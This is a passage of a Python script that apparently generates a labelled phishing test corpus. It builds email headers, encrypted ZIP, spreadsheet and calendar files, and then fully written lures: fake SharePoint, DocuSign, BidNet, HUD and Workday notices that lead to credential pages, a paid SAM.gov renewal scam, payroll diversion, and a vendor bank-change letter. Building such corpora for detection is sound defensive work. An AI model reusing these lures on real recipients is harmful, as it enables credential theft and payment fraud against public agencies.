    dos_date = ((2025 - 1980) << 9) | (3 << 5) | 11
    out = bytearray()
    central = bytearray()
    for index, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        k = [0x12345678, 0x23456789, 0x34567890]

        def upd(ch: int) -> None:
            k[0] = (k[0] >> 8) ^ _CRC[(k[0] ^ ch) & 0xFF]
            k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            k[2] = (k[2] >> 8) ^ _CRC[(k[2] ^ (k[1] >> 24)) & 0xFF]

        for ch in password.encode():
            upd(ch)
        header = bytearray(_stream(f"{seed}/{index}", 11)) + bytes([crc >> 24])
        enc_bytes = bytearray()
        for p in bytes(header) + deflated:
            t = (k[2] | 2) & 0xFFFF
            enc_bytes.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            upd(p)
        fname = name.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, 1, 8, dos_time, dos_date, crc, len(enc_bytes),
                           len(data), len(fname), 0) + fname + enc_bytes
        central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", 20, 20, 1, 8, dos_time, dos_date, crc,
                               len(enc_bytes), len(data), len(fname), 0, 0, 0, 0, 0x20, offset) + fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def xlsx(rows: list[list[str]], title: str, author: str) -> bytes:
    """A minimal spreadsheet with inline strings."""
    from xml.sax.saxutils import escape

    def col(i: int) -> str:
        return chr(ord("A") + i)

    sheet_rows = "".join(
        f'<row r="{r + 1}">' + "".join(
            f'<c r="{col(c)}{r + 1}" t="inlineStr"><is><t>{escape(v)}</t></is></c>' for c, v in enumerate(row))
        + "</row>" for r, row in enumerate(rows))
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    members = [
        ("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/docProps/core.xml" '
            'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>').encode()),
        ("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
            'core-properties" Target="docProps/core.xml"/></Relationships>').encode()),
        ("xl/workbook.xml", (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {ns} {rns}>'
                             '<sheets><sheet name="FY26 Request" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()),
        ("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>').encode()),
        ("xl/worksheets/sheet1.xml", (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {ns}>'
                                      f"<sheetData>{sheet_rows}</sheetData></worksheet>").encode()),
        ("docProps/core.xml", files._core_xml(title, author)),
    ]
    return files.zip_archive(members)


def ics(uid: str, organizer: str, attendee: str, summary: str, start: str, end: str, location: str,
        description: str, stamp: str) -> bytes:
    def fold(line: str) -> str:
        out, cur = [], line
        while len(cur.encode()) > 74:
            out.append(cur[:74])
            cur = " " + cur[74:]
        out.append(cur)
        return "\r\n".join(out)

    desc = description.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")
    lines = [
        "BEGIN:VCALENDAR", "METHOD:REQUEST", "PRODID:Microsoft Exchange Server 2010", "VERSION:2.0",
        "BEGIN:VEVENT", f"ORGANIZER;CN={organizer}", f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={attendee}",
        f"DESCRIPTION;LANGUAGE=en-US:{desc}", f"UID:{uid}", f"SUMMARY;LANGUAGE=en-US:{summary}",
        f"DTSTART;TZID=Eastern Standard Time:{start}", f"DTEND;TZID=Eastern Standard Time:{end}",
        "CLASS:PUBLIC", "PRIORITY:5", f"DTSTAMP:{stamp}", "TRANSP:OPAQUE", "STATUS:CONFIRMED", "SEQUENCE:0",
        f"LOCATION;LANGUAGE=en-US:{location}", "BEGIN:VALARM", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M",
        "ACTION:DISPLAY", "END:VALARM", "END:VEVENT", "END:VCALENDAR",
    ]
    return ("\r\n".join(fold(x) for x in lines) + "\r\n").encode()


def add(stem: str, kind: str, cat: str, description: str, raw: bytes) -> None:
    ENTRIES.append((stem, kind, cat, description, raw))


# --------------------------------------------------------------------------------------------------
# sending sides
# --------------------------------------------------------------------------------------------------

def m365_out(seed: str, region_tag: str = "NAM12-DM6", region: str = "namprd12.prod.outlook.com",
             mbx: str = "DM6PR12MB") -> tuple[str, str, str, list[str]]:
    """(ip, helo, rdns, hops) for mail leaving a Microsoft 365 tenant."""
    c = 200 + int(num(seed + "o2", 3)) % 50
    d = 20 + int(num(seed + "o3", 3)) % 200
    ip = f"40.107.{c}.{d}"
    short = region_tag.split("-")[1].lower() + region_tag.split("-")[0].lower()
    helo = f"{region_tag}-obe.outbound.protection.outlook.com"
    rdns = f"mail-{short}on2{num(seed + 'o4', 3)}.outbound.protection.outlook.com"
    box = f"{mbx}{num(seed + 'ob', 4)}.{region}"
    fe80 = f"fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}"
    hops = [f"Received: from {box} ([{fe80}]) by {box}\n ([{fe80}%4]) with mapi id 15.20.{num(seed + 'mv', 4)}.0{num(seed + 'mw', 2)}"]
    return ip, helo, rdns, hops


def outlook_extra(seed: str, topic: str, attach: bool = False, lang: str = "en-US",
                  irt: str | None = None, refs: str | None = None) -> list[str]:
    out = [f"Thread-Topic: {enc(topic)}", f"Thread-Index: AQHb{b64(seed + 'ti', 24)}"]
    if refs:
        out.append(f"References: {refs}")
    if irt:
        out.append(f"In-Reply-To: {irt}")
    out += [f"Accept-Language: {lang}", f"Content-Language: {lang}",
            f"X-MS-Has-Attach: {'yes' if attach else ''}".rstrip(), f"X-Originating-IP: [10.{int(num(seed + 'xo', 2))}.{int(num(seed + 'xo2', 3)) % 250}.{int(num(seed + 'xo3', 3)) % 250}]"]
    return [x for x in out if not x.endswith(":")]


def gmail_out(seed: str) -> tuple[str, str]:
    n = 41 + int(num(seed + "gn", 2)) % 30
    return f"209.85.220.{n}", f"mail-sor-f{n}.google.com"


def gmail_extra(seed: str, t: datetime) -> list[str]:
    return [f"X-Gm-Message-State: AOJu0Y{aln(seed + 'gms', 54)}",
            f"X-Google-Smtp-Source: AGHT+IF{aln(seed + 'ggs', 60)}",
            f"X-Received: by 2002:a05:6402:{hx(seed + 'xr', 3)}:b0:5e0:{hx(seed + 'xr2', 4)} with SMTP id"
            f"\n 4fb4d7f45d1cf-{hx(seed + 'xr3', 11)}mr{num(seed + 'xr4', 7)}a12.{num(seed + 'xr5', 2)}.{epoch(t)};"
            f" {fmt(t)}"]


# ==================================================================================================
# ATTACKS
# ==================================================================================================

def a01_dunlap_share() -> None:
    stem = "b36-phish-dunlap-county-sharepoint-lure"
    ip, helo, rdns, hops = m365_out(stem, "GCC02-DM3", "namprd09.prod.outlook.com", "SA9PR09MB")
    rcpt = "tom.whitfield@co.kessler.tx.us"
    url = ("https://rough-sun-4f2a.rvasquez-dcounty.workers.dev/sp/Shared%20Documents/"
           "?e=dG9tLndoaXRmaWVsZEBjby5rZXNzbGVyLnR4LnVz")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f3f2f1">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f3f2f1;padding:24px 0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Segoe UI',Tahoma,sans-serif">
<tr><td style="padding:24px 32px 8px 32px;font-size:13px;color:#605e5c">SharePoint</td></tr>
<tr><td style="padding:8px 32px;font-size:21px;color:#323130">Ronnie Vasquez shared a file with you</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;color:#323130">Tom, here is the interlocal agreement for the
FM 1487 road maintenance split we discussed at the COG meeting. Please review section 4 and sign where marked.</td></tr>
<tr><td style="padding:16px 32px"><table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;width:100%">
<tr><td style="padding:14px;font-size:14px;color:#323130"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/20/pdf.png" width="20" height="20" alt="">
&nbsp;Interlocal Agreement - Road Maintenance FY2025.pdf</td></tr></table></td></tr>
<tr><td style="padding:8px 32px 24px 32px"><a href="{url}" style="background:#0078d4;color:#ffffff;text-decoration:none;padding:9px 22px;font-size:14px;display:inline-block">Open</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:12px;color:#605e5c">This link will work for people in Dunlap County and
external partners. <br>Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Ronnie Vasquez<br>Road &amp; Bridge Administrator<br>Dunlap County, Texas<br>
(830) 426-5117</p>
</body></html>
"""
    auth = Auth(ip, helo, "ronnie.vasquez@co.dunlap.tx.us", "pass", [("co.dunlap.tx.us", "selector1", "pass")],
                "pass", "quarantine", "co.dunlap.tx.us", rdns)
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Ronnie Vasquez <ronnie.vasquez@co.dunlap.tx.us>",
                subject="Ronnie Vasquez shared \"Interlocal Agreement - Road Maintenance FY2025\" with you",
                date="2025-02-11 09:14:52 -0600", msgid=exchange_msgid(stem, "pine").replace("DM8PR09MB", "SA9PR09MB"),
                body=alt(None, html, "_000_SA9PR09MB6612DB41E3C2A0F7C8D1namprd09prod_"), auth=auth,
                sender_hops=hops, dkim=[("co.dunlap.tx.us", "selector1")],
                extra=outlook_extra(stem, "Ronnie Vasquez shared \"Interlocal Agreement - Road Maintenance FY2025\" with you"))
    add(stem, "phish", "phishing", "Compromised mailbox at a neighbouring Texas county (passes SPF/DKIM/DMARC) sends a "
        "hand-made SharePoint share card whose Open button goes to a workers.dev credential page", raw)


def a02_docusign_lookalike() -> None:
    stem = "b36-phish-docusign-lookalike-sendgrid"
    rcpt = "rostrowski@harlanspringsoh.gov"
    ip = "149.72.134.61"
    click = (f"https://u4819231.ct.sendgrid.net/ls/click?upn=u001.{aln(stem + 'up', 120)}-2BxQ"
             f"{aln(stem + 'up2', 40)}-3D-3D{aln(stem + 'up3', 10)}")
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>DocuSign</title></head>
<body style="background:#eaeaea;margin:0;padding:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="DocuSign" width="116"></td></tr>
<tr><td style="background:#1e4ca1;padding:36px;text-align:center;color:#ffffff;font-size:16px">
Harlan Springs Law Department sent you a document to review and sign.<br><br>
<a href="{click}" style="background:#ffc423;color:#333333;font-size:15px;font-weight:bold;text-decoration:none;padding:12px 24px;display:inline-block;border-radius:2px">REVIEW DOCUMENT</a>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333333">
<b>City of Harlan Springs - Law Department</b><br>
<span style="color:#666">legal@harlanspringsoh.gov</span><br><br>
Please review the Change Order No. 3 for the Elm Street Storm Sewer Improvements. Signature from the City Engineer is
required before the contractor can mobilize on Monday.<br><br>Thank you,<br>Law Department
</td></tr>
<tr><td style="padding:24px;background:#f4f4f4;font-size:11px;color:#666666">
<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
<b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.
</td></tr></table></td></tr></table>
<img src="https://u4819231.ct.sendgrid.net/wf/open?upn=u001.{aln(stem + 'op', 90)}" width="1" height="1" alt="">
</body></html>
"""
    plain = ("Harlan Springs Law Department sent you a document to review and sign.\n\n"
             f"REVIEW DOCUMENT: {click}\n\nPlease review the Change Order No. 3 for the Elm Street Storm Sewer "
             "Improvements. Signature from the City Engineer is required before the contractor can mobilize on Monday.\n\n"
             "Do Not Share This Email\nThis email contains a secure link to DocuSign.\n")
    mf = f"bounces+41872310-{hx(stem + 'bn', 4)}-{rcpt.replace('@', '=')}@em7781.esign-docusign.net"
    auth = Auth(ip, "o7.ptr1184.esign-docusign.net", mf, "pass",
                [("esign-docusign.net", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "bestguesspass",
                "none", "esign-docusign.net")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="DocuSign via Harlan Springs Legal <dse@esign-docusign.net>",
                subject="Please DocuSign: Change Order No. 3 - Elm Street Storm Sewer Improvements",
                date="2025-04-03 16:42:10 +0000", msgid=f"<{aln(stem + 'sg', 22)}@geopod-ismtpd-12>",
                body=alt(plain, html, f"{hx(stem + 'bd', 60)}"), auth=auth,
                sender_hops=["Received: by filterdrecv-5c7c8b8d8-x2lnq with SMTP id filterdrecv-5c7c8b8d8-x2lnq-1-"
                             f"{hx(stem + 'fd', 8).upper()}-1A",
                             f"Received: from {aln(stem + 'lh', 22)} (unknown) by geopod-ismtpd-12 (SG) with HTTP id"
                             f" {aln(stem + 'gp', 22)}"],
                dkim=[("esign-docusign.net", "s1"), ("sendgrid.info", "smtpapi")],
                extra=[f"X-SG-EID: u001.{aln(stem + 'eid', 120)}", f"X-Entity-ID: u001.{aln(stem + 'ent', 24)}"])
    add(stem, "phish", "phishing", "DocuSign look-alike sent through SendGrid from a look-alike domain (passes its own "
        "SPF/DKIM); REVIEW DOCUMENT goes through a SendGrid click-tracker to a credential page; pretends to be the city's "
        "own Law Department", raw)


def a03_bidnet_lookalike() -> None:
    stem = "b36-phish-bidnet-lookalike-solicitation"
    rcpt = "matt.fuller@ridgelineelectric.com"
    url = "https://bidnetdirect-solicitations.com/texas/kessler-county/RFP-25-031/documents?ref=vn88213"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #d5d5d5">
<tr><td style="background:#00395d;padding:14px 20px;color:#ffffff;font-size:20px;font-weight:bold">BidNet Direct</td></tr>
<tr><td style="padding:20px">
<p>Dear Vendor,</p>
<p>A new solicitation matching your registered commodity codes (<b>NIGP 285-45 Electrical Contractors</b>) has been
published by <b>Kessler County, TX</b>.</p>
<table cellpadding="6" style="font-size:13px;background:#f4f7f9;width:100%">
<tr><td><b>Solicitation</b></td><td>RFP 25-031 Electrical Upgrades - Courthouse Annex</td></tr>
<tr><td><b>Agency</b></td><td>Kessler County Purchasing Department</td></tr>
<tr><td><b>Pre-bid conference</b></td><td>March 19, 2025 10:00 AM CDT (non-mandatory)</td></tr>
<tr><td><b>Closing date</b></td><td>April 2, 2025 2:00 PM CDT</td></tr></table>
<p>Bid documents, plan sheets and addenda are available to registered vendors only. Sign in with your business email
account to download the package and acknowledge addenda.</p>
<p style="text-align:center"><a href="{url}" style="background:#f28c00;color:#fff;padding:10px 26px;text-decoration:none;font-weight:bold">View Solicitation</a></p>
<p style="font-size:12px;color:#666">You are receiving this notification because you are registered on BidNet Direct.
Manage your notification preferences from your account.<br>&copy; 2025 mdf commerce inc. All rights reserved.</p>
</td></tr></table></body></html>
"""
    auth = Auth("45.61.139.27", "mail.bidnetdirect-solicitations.com", "notifications@bidnetdirect-solicitations.com",
                "pass", [("bidnetdirect-solicitations.com", "default", "pass")], "none", "none",
                "bidnetdirect-solicitations.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="BidNet Direct <notifications@bidnetdirect-solicitations.com>",
                subject="New Bid Opportunity: Kessler County - RFP 25-031 Electrical Upgrades, Courthouse Annex",
                date="2025-03-12 07:31:05 -0500", msgid=f"<{aln(stem, 32)}@bidnetdirect-solicitations.com>",
                body=alt(None, html, f"b1=_{aln(stem + 'b', 43)}"), auth=auth,
                dkim=[("bidnetdirect-solicitations.com", "default")],
                extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])
    add(stem, "phish", "phishing", "Fake BidNet Direct solicitation notice to a county electrical contractor from a "
        "look-alike domain; 'View Solicitation' leads to a login page harvesting the vendor's email password", raw)


def a04_bonfire_compromised_vendor() -> None:
    stem = "b36-phish-bonfire-compromised-subcontractor"
    rcpt = "rkim@brookvaleusd.org"
    ip, helo, rdns, hops = m365_out(stem, "NAM10-BN7", "namprd10.prod.outlook.com", "BN0PR10MB")
    url = "https://bonfirehub-proposals.webflow.io/brookvale-usd/proposal-24-117"
    html = outlook_html(paras(
        "Good afternoon Rachel,",
        "Valley Mechanical, Inc. has submitted our revised proposal and updated equipment schedule for the "
        "<b>HVAC Replacement &#8211; Jefferson Elementary (RFP 24-117)</b> through the Bonfire portal.",
        f'Please use the link below to view the submission package:<br><a href="{url}">View Proposal Documents on Bonfire</a>',
        "Let me know if you have any trouble accessing the files.",
        "Thank you,",
        "<b>Daniel Reyes</b><br>Project Estimator<br>Valley Mechanical, Inc.<br>1820 N. Blackstone Ave, Fresno, CA 93703"
        "<br>O: (559) 448-2210 | C: (559) 970-3318<br>CSLB #874120"))
    auth = Auth(ip, helo, "dreyes@valleymechanicalinc.com", "pass", [("valleymechanicalinc.com", "selector1", "pass")],
                "pass", "none", "valleymechanicalinc.com", rdns)
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Daniel Reyes <dreyes@valleymechanicalinc.com>",
                subject="Revised Proposal Submitted - RFP 24-117 HVAC Replacement Jefferson ES",
                date="2024-11-20 14:06:37 -0800", msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "BN0PR10MB")
                .replace("namprd02", "namprd10"), body=alt(None, html, outlook_boundary(stem)), auth=auth,
                sender_hops=hops, dkim=[("valleymechanicalinc.com", "selector1")],
                extra=outlook_extra(stem, "Revised Proposal Submitted - RFP 24-117 HVAC Replacement Jefferson ES"))
    add(stem, "phish", "phishing", "Compromised HVAC subcontractor mailbox (authentication passes) tells the district's "
        "facilities director a proposal was posted on Bonfire; the link is a webflow.io page that asks for a Microsoft login", raw)


def a05_sam_renewal_service() -> None:
    stem = "b36-phish-samgov-renewal-fee"
    rcpt = "dkowalczyk@harlanspringsoh.gov"
    url = "https://samregistrationcenter.org/renew/?uei=ZK4NM7R2JQ58&cage=8RT41"
    html = f"""<html><body style="font-family:Georgia,serif;font-size:15px;color:#111;max-width:640px">
<p style="font-size:12px;color:#8a1c1c;font-weight:bold">TIME SENSITIVE - FEDERAL AWARD ELIGIBILITY</p>
<p>CITY OF HARLAN SPRINGS<br>Attn: Finance Director<br>UEI: ZK4NM7R2JQ58 &nbsp; CAGE: 8RT41</p>
<p>Our records indicate your entity registration in the System for Award Management (SAM.gov) will
<b>expire on 06/14/2025</b>. An expired registration makes your organization ineligible to draw down or receive
federal grant funds, including ARPA, CDBG and FEMA reimbursements.</p>
<p>Our registration specialists will complete the renewal for you, including the Financial Assistance
representations, within 3 business days. The one-time processing fee is <b>$549.00</b>.</p>
<p><a href="{url}" style="background:#1b3a6b;color:#fff;padding:10px 20px;text-decoration:none">Start Renewal Now</a></p>
<p>If you have questions call our Washington, DC office at (202) 780-4613.</p>
<p style="font-size:11px;color:#666">SAM Registration Center is a third-party registration service and is not affiliated
with the U.S. General Services Administration. You may renew directly with SAM.gov at no cost.
To stop receiving these notices reply REMOVE.</p>
</body></html>
"""
    auth = Auth("23.254.215.88", "mail.samregistrationcenter.org", "notices@samregistrationcenter.org", "pass",
                [("samregistrationcenter.org", "x", "pass")], "pass", "none", "samregistrationcenter.org")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="SAM Registration Center <notices@samregistrationcenter.org>",
                subject="ACTION REQUIRED: CITY OF HARLAN SPRINGS SAM.gov registration expires 06/14/2025",
                date="2025-05-28 10:02:44 -0400", msgid=f"<{hx(stem, 24)}.{num(stem, 10)}@samregistrationcenter.org>",
                body=alt(None, html, f"----=_NextPart_{hx(stem + 'np', 3)}_{hx(stem + 'np2', 4)}_{hx(stem + 'np3', 8)}".upper()),
                auth=auth, dkim=[("samregistrationcenter.org", "x")])
    add(stem, "phish", "phishing", "Third-party 'SAM.gov renewal' notice that uses the city's public UEI/CAGE and an "
        "expiry scare to collect a $549 fee for a registration that is free; sender is an unrelated domain", raw)


def a06_hud_grant() -> None:
    stem = "b36-phish-hud-cdbg-award-lookalike"
    rcpt = "dwhitcomb@harlanspringsoh.gov"
    url = "https://hud-grantportal.com/GrantSolutions/GranteeAccess?grantee=OH-B-25-MC-390017"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="border-bottom:4px solid #005ea2;padding:10px 0">
<b style="font-size:18px;color:#162e51">U.S. Department of Housing and Urban Development</b><br>
<span style="font-size:13px">Office of Community Planning and Development</span></td></tr>
<tr><td style="padding:16px 0">
<p>Grantee: <b>City of Harlan Springs, OH</b><br>Grant Number: <b>B-25-MC-39-0017</b><br>
Program: Community Development Block Grant - Supplemental Allocation (FY2025)</p>
<p>The Office of Community Planning and Development has approved a supplemental allocation of
<b>$412,600.00</b> to your jurisdiction. To accept the allocation, the Chief Elected Official or designee must review
and electronically execute the revised Grant Agreement (HUD-7082) by <b>July 18, 2025</b>. Unexecuted allocations will be
recaptured.</p>
<p><a href="{url}" style="background:#005ea2;color:#fff;padding:10px 18px;text-decoration:none">Access Grant Agreement</a></p>
<p>Access requires verification with your organizational Microsoft 365 credentials.</p>
<p>Office of Block Grant Assistance<br>451 7th Street S.W., Washington, DC 20410</p></td></tr></table>
</body></html>
"""
    auth = Auth("192.236.161.40", "server1.hud-grantportal.com", "cpd-grants@hud-grantportal.com", "pass",
                [("hud-grantportal.com", "default", "pass")], "pass", "none", "hud-grantportal.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="HUD CPD Grants Management <cpd-grants@hud-grantportal.com>",
                subject="FY2025 CDBG Supplemental Allocation - Grantee Acceptance Required (B-25-MC-39-0017)",
                date="2025-07-08 08:47:19 -0400", msgid=f"<{hx(stem, 32)}@hud-grantportal.com>",
                body=alt(None, html, f"=_{hx(stem + 'rc', 32)}"), auth=auth,
                dkim=[("hud-grantportal.com", "default")], extra=["X-Mailer: Roundcube Webmail/1.6.6"])
    add(stem, "phish", "phishing", "Fake HUD CDBG supplemental-allocation notice to the city's grants coordinator from a "
        "look-alike domain; 'Access Grant Agreement' asks for Microsoft 365 credentials", raw)


def a07_dd_change_gmail() -> None:
    stem = "b36-phish-payroll-direct-deposit-gmail"
    rcpt = "ktran@brookvaleusd.org"
    ip, helo = gmail_out(stem)
    plain = ("Hi Kevin,\n\nI changed banks this month and need to update my direct deposit before the next payroll."
             " Can you make the change for me or send me the form? I'm at school all day and can't get into Escape"
             " from my phone.\n\nThank you,\nJessica Ortega\n4th Grade - Lincoln Elementary\n\nSent from my iPhone\n")
    html = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">'
            "<div dir=\"ltr\">Hi Kevin,</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">I changed banks this month and need "
            "to update my direct deposit before the next payroll. Can you make the change for me or send me the form? I'm at "
            "school all day and can't get into Escape from my phone.</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">Thank "
            "you,</div><div dir=\"ltr\">Jessica Ortega</div><div dir=\"ltr\">4th Grade - Lincoln Elementary<br><br>"
            "<div dir=\"ltr\">Sent from my iPhone</div></div></body></html>\n")
    d = when("2025-01-21 06:52:18 -0800")
    auth = Auth(ip, helo, "jessortega.bvusd@gmail.com", "pass", [("gmail.com", "20230601", "pass")], "pass", "none",
                "gmail.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Jessica Ortega <jessortega.bvusd@gmail.com>",
                subject="Direct deposit", date="2025-01-21 06:52:18 -0800",
                msgid=f"<{guid(stem).upper()}@gmail.com>",
                body=alt(plain, html, f"Apple-Mail-{guid(stem + 'am').upper()}", enc_="quoted-printable"), auth=auth,
                dkim=[("gmail.com", "20230601")], top=gmail_extra(stem, d),
                extra=["X-Mailer: iPhone Mail (22C161)"])
    add(stem, "phish", "phishing", "Payroll diversion: a Gmail account using a teacher's name asks the district payroll "
        "specialist to change her direct deposit; nothing links it to the real employee", raw)


def a08_workday_dd() -> None:
    stem = "b36-phish-workday-direct-deposit-lure"
    rcpt = "emily.sandoval@state.co.us"
    url = (f"https://email.mg.myworkday-sso.com/c/eJwUzE{aln(stem + 'mg', 110)}")
    html = f"""<html><body style="background:#f5f6f7;font-family:Roboto,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:5px solid #0875e1">
<tr><td style="padding:20px 28px"><b style="color:#0875e1;font-size:22px">workday.</b></td></tr>
<tr><td style="padding:0 28px 20px 28px;font-size:14px;color:#333">
<p>Hello Emily Sandoval,</p>
<p>As part of the State of Colorado payroll migration, all employees must re-confirm their payment elections before
the <b>January 31, 2025</b> pay date. Employees who do not confirm will receive a paper warrant mailed to the address on
file, which may delay payment by up to 10 business days.</p>
<p style="text-align:center"><a href="{url}" style="background:#0875e1;color:#fff;padding:11px 28px;border-radius:18px;text-decoration:none">Review Payment Elections</a></p>
<p>This task is assigned to you in your Workday inbox.</p>
<p style="color:#777;font-size:12px">This is a system-generated message from Workday. Please do not reply.</p>
</td></tr></table>
<img width="1" height="1" alt="" src="https://email.mg.myworkday-sso.com/o/eJwNy{aln(stem + 'op', 60)}">
</body></html>
"""
    mf = f"bounce+{hx(stem + 'mf', 6)}.{hx(stem + 'mf2', 12)}-emily.sandoval=state.co.us@mg.myworkday-sso.com"
    auth = Auth("159.135.228.14", "m228-14.mailgun.net", mf, "pass",
                [("myworkday-sso.com", "k1", "pass"), ("mailgun.org", "mg", "pass")], "pass", "none", "myworkday-sso.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Workday <noreply@myworkday-sso.com>",
                subject="Action Required: Confirm your payment elections before the 01/31 pay date",
                date="2025-01-22 15:20:41 +0000", msgid=f"<20250122152041.{hx(stem, 16)}@mg.myworkday-sso.com>",
                body=alt(None, html, hx(stem + "bd", 32)), auth=auth,
                dkim=[("myworkday-sso.com", "k1"), ("mailgun.org", "mg")],
                extra=[f"X-Mailgun-Sid: {aln(stem + 'sid', 40)}", "X-Mailgun-Tag: payroll"])
    add(stem, "phish", "phishing", "Workday look-alike (Mailgun, look-alike domain) tells a state employee to re-confirm "
        "direct-deposit elections before the pay date; the tracked link leads to a fake Workday sign-in", raw)


def a09_kaminski_vec() -> None:
    stem = "b36-phish-paving-contractor-thread-bank-change"
    rcpt = "mbell@harlanspringsoh.gov"
    ip, helo, rdns, hops = m365_out(stem, "NAM11-CO1", "namprd11.prod.outlook.com", "CO1PR11MB")
    prev_id = exchange_msgid(stem + "prev", "harlan")
    letter = text_pdf([
        "KAMINSKI PAVING & EXCAVATING, LLC",
        "4410 State Route 18, Harlan Springs, OH 44839  |  (419) 663-2280",
        "",
        "June 9, 2025",
        "",
        "To: City of Harlan Springs - Accounts Payable",
        "Re: Change of Remittance / ACH Instructions",
        "",
        "Please be advised that effective immediately Kaminski Paving & Excavating, LLC has moved",
        "its operating accounts. All payments, including Pay Application #4 on Contract 25-07,",
        "should be remitted by ACH to the account below. Our previous account is closed.",
        "",
        "Bank name:        Lakeshore Community Bank",
        "Account name:     Kaminski Paving & Excavating LLC",
        "ABA routing no.:  041215663",
        "Account no.:      7720019384",
        "Account type:     Business checking",
        "",
        "Please do not send checks to the old lockbox. Contact our office with any questions.",
        "",
        "Sincerely,",
        "",
        "Richard J. Kaminski, President",
    ], "ACH Update Letter", "Microsoft: Print To PDF", "20250609103122-04'00'", "Sheila Dorsey")
    plain = f"""Hi Marcus,

Thank you for getting Pay App #4 on the agenda. One thing before it goes out - we moved our operating accounts to
Lakeshore Community Bank last week as part of refinancing our equipment line, and the old account is being closed.
Attached is the ACH update letter signed by Rick. Can you please update our vendor record before Friday's payment
run so it doesn't bounce? Let me know once it's done.

Thanks so much,

Sheila Dorsey
Office Manager
Kaminski Paving & Excavating, LLC
